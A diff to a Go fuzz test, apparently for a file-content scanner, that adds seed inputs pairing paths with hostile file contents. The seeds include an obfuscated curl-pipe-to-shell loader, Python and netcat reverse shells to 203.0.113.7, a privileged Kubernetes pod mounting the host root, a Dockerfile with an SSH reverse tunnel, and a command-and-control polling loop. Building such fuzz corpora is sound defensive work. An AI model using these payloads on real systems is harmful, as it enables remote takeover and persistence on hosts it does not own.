@@ -20,6 +20,9 @@ func FuzzContent(f *testing.F) {
 		{"/usr/local/bin/run.sh", "#!/bin/sh\nf() { eval \"$(echo $1 | rev)\"; }\nf 'hs | 1.7.311.302//:ptth LSfs- lruc'\nwhile true; do $(printf '\\x73\\x68'); done\n"},
 		{"/etc/profile.d/x.sh", "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'\n"},
 		{"/app/x.sh", "cat <<EOF > /etc/cron.d/y\n* * * * * root sh /tmp/z\nEOF\n${a:-$((1<<62))} \"$(( ${#x} ))\" ${x//a/b} <(echo) >(cat) {a,b}{c,d}\n"},
+		{"/k8s/pod.yaml", "kind: Pod\nspec:\n  hostPID: true\n  containers:\n  - command: [sh, -c]\n    args: [\"nc -e /bin/sh 203.0.113.7 4444\"]\n    securityContext: {privileged: true}\n  volumes: [{name: r, hostPath: {path: /}}]\nx: &a [*a]\n"},
+		{"/src/Dockerfile", "FROM x\nRUN a \\\n  && curl http://203.0.113.7/i | sh\nCMD [\"sh\", \"-c\", \"ssh -NR 2222:localhost:22 u@203.0.113.7\"]\nRUN <<EOF\necho\nEOF\n"},
+		{"/opt/a.py", "import requests,subprocess\nwhile 1:\n c=requests.get('http://203.0.113.7/c').text\n requests.post('http://203.0.113.7/o',data=subprocess.getoutput(c))\n"},
 	} {
 		f.Add(s.p, s.text)
 	}
